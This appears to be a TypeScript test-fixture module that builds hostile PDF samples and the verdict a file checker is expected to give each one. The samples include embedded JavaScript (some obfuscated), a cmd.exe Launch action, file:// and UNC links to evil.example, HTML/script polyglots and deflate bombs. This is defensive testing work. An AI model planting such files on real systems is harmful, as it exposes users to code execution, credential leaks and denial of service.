// Hostile PDFs: scripts and what starts them, hidden where a quick look does not reach, locks, bombs and mixtures.
import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import type { Hostile } from './hostile.ts'
import { pdf, zipped } from './made.ts'

/** A PDF of one page from its objects; the first three are made here. */
export function rawPdf(
  catalog: string,
  page: string,
  ...more: readonly (string | Buffer)[]
): Buffer {
  const objects: (string | Buffer)[] = [
    `<</Type/Catalog/Pages 2 0 R ${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400] ${page}>>`,
    ...more,
  ]
  const parts = [Buffer.from('%PDF-1.7\n')]
  const offsets: number[] = []
  let at = 9
  for (const [n, object] of objects.entries()) {
    const part = Buffer.concat([
      Buffer.from(`${n + 1} 0 obj\n`),
      typeof object === 'string' ? Buffer.from(object, 'latin1') : object,
      Buffer.from('\nendobj\n'),
    ])
    offsets.push(at)
    parts.push(part)
    at += part.length
  }
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const end = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${at}\n%%EOF\n`
  return Buffer.concat([...parts, Buffer.from(end)])
}

export const stream = (dict: string, data: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<<${dict}/Length ${data.length}>>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ])
export const deflated = (dict: string, plain: Buffer): Buffer =>
  stream(`${dict}/Filter/FlateDecode`, deflateSync(plain, { level: 9 }))

/** By qpdf, which nobody here wrote. */
export function locked(
  bytes: Buffer,
  user: string,
  owner: string,
  bits: '128' | '256' = '256',
): Buffer {
  if (!existsSync('/usr/bin/qpdf')) throw new Error('qpdf is missing: apt-get install qpdf')
  const folder = mkdtempSync(join(tmpdir(), 'parley-locked-'))
  try {
    const [from, to] = [join(folder, 'a.pdf'), join(folder, 'b.pdf')]
    writeFileSync(from, bytes)
    // The old cipher draws nothing by chance.
    const old = bits === '128' ? ['--use-aes=n'] : []
    const cipher = ['--allow-weak-crypto', '--encrypt', user, owner, bits, ...old, '--']
    const words = ['--static-id', ...cipher, from, to]
    execFileSync('/usr/bin/qpdf', words, { stdio: 'ignore' })
    return readFileSync(to)
  } finally {
    rmSync(folder, { recursive: true })
  }
}

export async function hostilePapers(): Promise<readonly Hostile[]> {
  const honest = await pdf('The lease')
  const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
  const acts = (what: string, bytes: Buffer): Hostile => ({
    what,
    name: 'a.pdf',
    bytes,
    right: 'HoldsActiveContent',
  })
  const other = (
    what: string,
    bytes: Buffer,
    right: Hostile['right'] = 'KindNotTaken',
  ): Hostile => ({
    what,
    name: 'a.pdf',
    bytes,
    right,
  })
  const zeros = Buffer.alloc(110 * 1024 * 1024)
  const twice = deflateSync(deflateSync(zeros, { level: 9 }), { level: 9 })
  const inStream = Buffer.from(`9 0 ${script}`)
  const annotated = (of: string) => rawPdf('', `/Annots[<</Type/Annot/Rect[0 0 9 9]${of}>>]`)
  // Its table points at an object that lies within a stream.
  const within = rawPdf(
    '/OpenAction 9 0 R',
    '',
    stream('/Type/Thing', Buffer.from(`endobj 9 0 obj ${script} endobj`)),
  )
  return [
    acts('a script that runs when opened', rawPdf(`/OpenAction ${script}`, '')),
    acts('a script by another spelling', rawPdf('/OpenAction<</S/#4Aava#53cript/#4a#53(x)>>', '')),
    acts(
      'a script in the list of names',
      rawPdf(`/Names<</JavaScript<</Names[(a) ${script}]>>>>`, ''),
    ),
    acts(
      'a script in a packed list of objects',
      rawPdf('/OpenAction 9 0 R', '', deflated('/Type/ObjStm/N 1/First 4', inStream)),
    ),
    acts('a script within a stream', within),
    acts(
      'a script in an earlier revision',
      Buffer.concat([
        rawPdf(`/OpenAction ${script}`, ''),
        Buffer.from(
          '1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\ntrailer\n<</Size 4/Root 1 0 R>>\nstartxref\n0\n%%EOF\n',
        ),
      ]),
    ),
    acts('what a page does when it is turned', rawPdf('', `/AA<</O ${script}>>`)),
    acts('a program to launch', rawPdf('/OpenAction<</S/Launch/F(cmd.exe)>>', '')),
    acts(
      'a form of XML',
      rawPdf('/AcroForm<</XFA 4 0 R>>', '', stream('', Buffer.from('<xdp:xdp/>'))),
    ),
    acts('rich media', annotated('/Subtype/RichMedia')),
    acts('a film', annotated('/Subtype/Movie')),
    acts('a body in three dimensions', annotated('/Subtype/3D')),
    acts(
      'a form that sends itself',
      annotated('/Subtype/Widget/A<</S/SubmitForm/F(http://x.example)>>'),
    ),
    acts(
      'a link with a script',
      annotated('/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>'),
    ),
    acts('a link to a share', annotated('/Subtype/Link/A<</S/URI/URI(file://evil.example/a)>>')),
    acts(
      'a way into another file',
      annotated('/Subtype/Link/A<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)/D[0/Fit]>>'),
    ),
    other('words before its head', Buffer.concat([Buffer.from('GIF89a junk\n'), honest])),
    other(
      'a page before its head',
      Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), honest]),
    ),
    other('paper and archive', Buffer.concat([honest, zipped({ 'a.txt': 'x' })])),
    other(
      'paper and page',
      Buffer.concat([honest, Buffer.from('<html><script>alert(1)</script></html>')]),
    ),
    other(
      'a page in a remark',
      Buffer.concat([
        Buffer.from('%PDF-1.7\n%<html><script>alert(1)</script>\n'),
        honest.subarray(9),
      ]),
    ),
    other('half a paper', honest.subarray(0, honest.length / 2), 'CannotBeRead'),
    other('a head alone', Buffer.from('%PDF-1.7\n%%EOF\n'), 'CannotBeRead'),
    other(
      'a paper without pages',
      Buffer.from(
        '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj trailer<</Root 1 0 R>>\n%%EOF',
      ),
      'CannotBeRead',
    ),
    other('locked with a password', locked(honest, 'secret', 'owner', '128'), 'LockedWithPassword'),
    other(
      'a drawing that unpacks to 110 MB',
      rawPdf('', '/Contents 4 0 R', deflated('', zeros)),
      'UnpacksTooBig',
    ),
    other(
      'a drawing packed twice',
      rawPdf('', '/Contents 4 0 R', stream('/Filter[/FlateDecode/FlateDecode]', twice)),
      'UnpacksTooBig',
    ),
    other(
      'a drawing that draws itself',
      rawPdf(
        '',
        '/Contents 5 0 R/Resources<</XObject<</X 4 0 R>>>>',
        stream(
          '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>',
          Buffer.from('/X Do'),
        ),
        stream('', Buffer.from('/X Do')),
      ),
      'CannotBeRead',
    ),
    other(
      'brackets without end',
      rawPdf('', '/Contents 4 0 R', stream('', Buffer.from('['.repeat(100_000)))),
      'CannotBeRead',
    ),
  ]
}
